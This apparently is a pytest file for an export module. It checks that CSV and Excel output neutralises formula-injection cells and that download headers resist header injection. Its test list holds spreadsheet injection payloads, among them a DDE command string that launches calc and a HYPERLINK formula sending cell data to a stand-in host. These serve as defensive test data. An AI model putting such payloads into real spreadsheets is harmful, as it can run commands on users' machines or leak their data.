"""No text of a table that we write is taken for a formula."""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core import exports

HOSTILE = [
    "=1+1",
    "+86 755 2878 0808",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u3000=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("https://evil.example?"&A1,"open")',
    "=cmd|' /C calc'!A0",
]
HARMLESS = ["蓝海电信", "a=b", "1-2", "O'Brien", 'a "quoted" word', "a,b;c", ""]


def as_csv(*values):
    text = "".join(exports.csv_rows(["列"], [[value] for value in values]))
    assert text.startswith("\ufeff")
    return [row[0] for row in csv.reader(io.StringIO(text[1:], newline=""))][1:]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_cell_that_looks_like_a_formula_begins_with_an_apostrophe(text):
    assert as_csv(text) == [f"'{text}"]
    assert exports.bare_text(f"'{text}") == text


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_cell_is_left_alone(text):
    assert as_csv(text) == [text]
    assert exports.bare_text(text) == text


def test_the_header_is_disarmed_too():
    assert next(exports.csv_rows(["=1+1"], [])) == '\ufeff"\'=1+1"\r\n'


def test_numbers_and_days_stay_what_they_are():
    day, moment = dt.date(2026, 11, 19), dt.datetime(2026, 11, 19, 7, 30, tzinfo=dt.timezone.utc)

    assert as_csv(-3, Decimal("-1.50"), day, moment, None, True, ["a", "b"], float("nan")) == [
        "-3", "-1.50", "2026-11-19", "2026-11-19 15:30:00", "", "true", "a; b", "nan",
    ]  # fmt: skip


def test_a_workbook_holds_texts_and_no_formula():
    content = exports.xlsx(["=A1", "n"], [[text, -3] for text in HOSTILE], title="客户/表")

    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet.title == "客户 表"
    assert [cell.data_type for cell in sheet["A"]] == ["s"] * (len(HOSTILE) + 1)
    assert [cell.quotePrefix for cell in sheet["A"]] == [True] * (len(HOSTILE) + 1)
    assert [cell.value for cell in sheet["B"]] == ["n"] + [-3] * len(HOSTILE)
    assert sheet["A2"].value == "=1+1"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_a_workbook_takes_what_xml_does_not():
    content = exports.xlsx(["n"], [["a\x00\x0b\ud800b"], ["x" * 40_000]], title="\x00:[]")

    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet["A2"].value == "ab"
    assert len(sheet["A3"].value) == 32_767


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_download_is_an_attachment_that_no_browser_renders(kind):
    answer = exports.download('客户"\r\nX: 1', kind, ["n"], [["=1"]])

    said = answer.headers["Content-Disposition"]
    assert said.startswith(f"attachment; filename=\"export.{kind}\"; filename*=UTF-8''%E5%AE%A2")
    assert "\r" not in said
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert answer.getvalue()
